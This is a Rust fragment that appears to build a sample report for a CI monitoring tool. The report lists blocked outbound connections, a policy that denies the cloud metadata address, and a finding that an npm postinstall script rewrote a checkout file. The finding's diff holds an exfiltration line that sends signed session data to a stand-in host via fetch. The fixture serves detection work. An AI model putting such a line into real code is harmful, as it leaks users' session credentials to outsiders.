                dependency: row.dependency.clone().map(Arc::new),
            }
        },
    )
    .collect()
}

/// What the run did.
pub(super) fn report(kind: Kind) -> Report {
    let processes = processes(kind);
    let network_events = network(kind, &processes);
    let file_events = files(kind, &processes);
    let stop = |name: &str, via: Option<&str>, reason, line: Option<&str>, id| Blocked {
        destination: kind.text(name),
        via: via.map(|via| kind.text(via)),
        protocol: Protocol::Tcp,
        lookup: false,
        reason,
        line: line.map(|line| kind.text(line)),
        refusals: 1,
        ips: Vec::new(),
        first_time: at(22_130),
        last_time: at(22_130),
        process: detail(kind, &processes, id),
        step: Some(Arc::from(kind.text("Install"))),
        dependency: Some(Arc::new(dependency(kind))),
        processes: vec![kind.text("/usr/bin/curl")],
        steps: Vec::new(),
        dependencies: Vec::new(),
    };
    let blocked = vec![
        stop(
            "collect.telemetry.example:443",
            None,
            Reason::NotAllowed,
            Some("collect.telemetry.example:443"),
            6,
        ),
        stop(
            "paste.drop.example:443",
            Some("objects.storage.example:443"),
            Reason::SniMismatch,
            Some("paste.drop.example:443"),
            5,
        ),
        stop(
            "203.0.113.77:8443",
            None,
            Reason::NotAllowed,
            Some("203.0.113.77:8443"),
            5,
        ),
    ];
    let destination =
        |name: &str, connections, blocked, sent, received, program: &str, step: &str| {
            ReportDestination {
                destination: kind.text(name),
                name: Some(kind.text(name)),
                port: 443,
                protocol: Protocol::Tcp,
                ips: Vec::new(),
                connections,
                failed: 0,
                bytes_sent: sent,
                bytes_received: received,
                first_time: at(1900),
                last_time: at(2900),
                processes: vec![kind.text(program)],
                steps: vec![kind.text(step)],
                dependencies: if blocked > 0 {
                    vec![dependency(kind)]
                } else {
                    Vec::new()
                },
                dependency_connections: blocked,
                statuses: Statuses {
                    allowed: connections - blocked,
                    blocked,
                    anomalous: 0,
                },
            }
        };
    let destinations = vec![
        destination(
            "registry.packages.example:443",
            3,
            0,
            69_500,
            84_310_000,
            "/usr/bin/node",
            "Install",
        ),
        destination(
            "collect.telemetry.example:443",
            1,
            1,
            0,
            0,
            "/usr/bin/curl",
            "Install",
        ),
        destination(
            "objects.storage.example:443",
            2,
            1,
            9_000_310,
            1_200,
            "/usr/lib/git-core/git-remote-https",
            "Publish",
        ),
        destination("203.0.113.77:8443", 1, 1, 0, 0, "/usr/bin/node", "Install"),
        destination(
            "headers.node.example:443",
            1,
            0,
            940,
            9_800_000,
            "/usr/bin/python3",
            "Install",
        ),
        destination(
            "git.example:443",
            2,
            0,
            490_000,
            7_400,
            "/usr/lib/git-core/git-remote-https",
            "Publish",
        ),
    ];
    let finding = |name: &str, severity, message: &str, path: Option<&str>| {
        Finding {
        detection: name.to_owned(),
        severity,
        confidence: Confidence::High,
        time: at(22_000),
        seq: 991,
        evidence: Vec::new(),
        message: kind.text(message),
        next: String::new(),
        path: path.map(|path| kind.text(path)),
        destination: None,
        content: path.map(|_| ContentChange {
            hash_before: Some("a".repeat(40)),
            hash_after: Some("b".repeat(40)),
            diff: Some(FileDiff {
                text: format!(
                    "@@ -7,3 +7,3 @@\n export function open(session) {{\n-  return sign(session);\n+  {}\n }}\n",
                    kind.text("return fetch('https://collect.example', sign(session));")
                ),
                added: 1,
                removed: 1,
                cut: false,
            }),
            no_diff: None,
            mount: None,
        }),
        process: Some(detail(kind, &processes, 5)),
        step: Some(Arc::from(kind.text("Install"))),
        dependency: Some(Arc::new(dependency(kind))),
    }
    };
    let detections = vec![finding(
        "source-code-overwritten",
        Severity::High,
        "/usr/bin/node overwrote src/checkout/session.ts, which git tracks, during postinstall of the npm package left-example@1.2.3",
        Some("src/checkout/session.ts"),
    )];
    let rule = |rule, text: &str, line: u32, denies| PolicyRule {
        rule,
        text: kind.text(text),
        source: kind.text(&format!(".github/runward.policy:{line}")),
        denies,
    };
    Report {
        format: 1,
        runward: kind.text("0.1.0"),
        complete: true,
        job: JobIdentity::default(),
        command: vec![kind.text("make"), kind.text("all")],
        cwd: kind.text("/home/runner/web-shop"),
        workspace: kind.text("/home/runner/web-shop"),
        requested_mode: Some(Mode::Block),
        effective_mode: Some(Mode::Block),
        policy: vec![
            rule(1, "127.0.0.0/8", 3, false),
            rule(2, "*.packages.example:443", 4, false),
            rule(3, "git.example:443", 5, false),
            rule(4, "169.254.169.254", 8, true),
        ],
        tier: Some(Tier::A),
        kernel: kind.text("6.12.41-amd64"),
        start: Some(at(0)),
        duration_seconds: 187.4,
        exit_code: Some(0),
        unrecorded_file_changes: 18_204,
        files_watched: true,
        tracked_files: Some(842),
        counts: Counts {
            processes: 14,
            execs: 13,
            connections: 11,
            failed_connections: 1,
            blocked_connections: 3,
            blocked_destinations: 3,
            dns_queries: 18,
            dns_names: 7,
            destinations: 6,
            file_changes: 5,
            tracked_changes: 1,
            detections: 4,
            events: 4312,
            ..Counts::default()
        },
        lost_events: BTreeMap::from([(EventKind::File, 1204), (EventKind::Dns, 3)]),
        notes: vec![kind.text("The clock of this machine was set while the job ran.")],
        detections,
        blocked,
        destinations,
        network_events,
        file_events,
        processes,
        ..Report::default()
    }
}
